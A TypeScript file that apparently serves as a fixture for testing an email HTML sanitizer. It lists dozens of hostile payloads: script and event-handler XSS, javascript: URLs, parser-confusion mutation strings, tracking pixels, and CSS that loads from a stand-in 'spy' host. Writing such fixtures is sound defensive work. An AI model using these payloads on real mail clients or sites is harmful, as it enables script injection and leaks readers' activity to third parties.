/** What strangers put into mails to run scripts, load things or leave the frame. `spy` is a host that must hear nothing. */

const RUN = 'top.pwned=1;alert(1)'

export const hostilePayloads = (spy: string): string[] => [
  ...scripts(spy),
  ...handlers(),
  ...addresses(),
  ...parsing(),
  ...loading(spy),
  ...styling(spy),
]

const scripts = (spy: string): string[] => [
  `<script>${RUN}</script>`,
  `<script src="${spy}/a.js"></script>`,
  `<SCRIPT/XSS SRC="${spy}/a.js"></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg onload="${RUN}">`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>go</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<math href="javascript:${RUN}">go</math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
]

const handlers = (): string[] => [
  `<img src=x onerror="${RUN}">`,
  `<img src=x:x onerror=${RUN}//`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"><option>x</select>`,
  `<div onpointerenter="${RUN}" style="width:5000px;height:5000px">x</div>`,
  `<p onanimationstart="${RUN}" style="animation:x 1s">x</p><style>@keyframes x{}</style>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<a href="https://example.com" onclick="${RUN}" onfocus="${RUN}">x</a>`,
]

const addresses = (): string[] => [
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="jav&#x0A;ascript:${RUN}">x</a>`,
  `<a href=" &#14; javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="vbscript:${RUN}">x</a>`,
  `<a href="/api/v1/profile">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<isindex action="javascript:${RUN}" type=submit value=x>`,
  `<base href="javascript:${RUN}//"><a href="a">x</a>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
]

/** Texts that one parser reads differently from the next. */
const parsing = (): string[] => [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<div id="body"><div name="attributes"><input name="childNodes"></div></div><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `${'<div>'.repeat(600)}<img src=x onerror=${RUN}>`,
]

const loading = (spy: string): string[] => [
  `<img src="${spy}/pixel.gif" width="1" height="1">`,
  `<img src="${spy.replace('http:', '')}/pixel.gif">`,
  `<img srcset="${spy}/a 1x, ${spy}/b 2x">`,
  `<picture><source srcset="${spy}/a"><img src="${spy}/b"></picture>`,
  `<table background="${spy}/a"><tr><td background="${spy}/b">x</td></tr></table>`,
  `<video src="${spy}/a" poster="${spy}/b" autoplay></video>`,
  `<link rel="stylesheet" href="${spy}/a.css"><link rel="prefetch" href="${spy}/b"><link rel="preload" as="image" href="${spy}/c">`,
  `<meta http-equiv="refresh" content="0;url=${spy}/a">`,
  `<iframe src="${spy}/a"></iframe><object data="${spy}/b"></object><embed src="${spy}/c">`,
  `<svg><image href="${spy}/a"/><filter><feImage href="${spy}/b"/></filter></svg>`,
  `<input type="image" src="${spy}/a">`,
  `<a href="https://example.com" ping="${spy}/ping">x</a>`,
]

const styling = (spy: string): string[] => [
  `<style>@import "${spy}/a.css"; body{background:url(${spy}/b)}</style>`,
  `<style>@font-face{font-family:x;src:url(${spy}/f)} *{font-family:x}</style>`,
  `<style>@container (min-width:1px){*{background:url(${spy}/c)}}</style>`,
  `<p style="background:url(${spy}/a)">x</p>`,
  `<p style="background:u\\72l(${spy}/a)">x</p>`,
  `<p style="--x:url(${spy}/a);background:var(--x)">x</p>`,
  `<p style="background-image:image-set('${spy}/a' 1x)">x</p>`,
  `<p style="list-style:url(${spy}/a);display:list-item">x</p>`,
  `<p style="cursor:url(${spy}/a),auto;content:url(${spy}/b)">x</p>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>`,
  `<div style="position:sticky;top:0">x</div>`,
  `<p style="font-family:'x;background:url(${spy}/a)'">x</p>`,
]
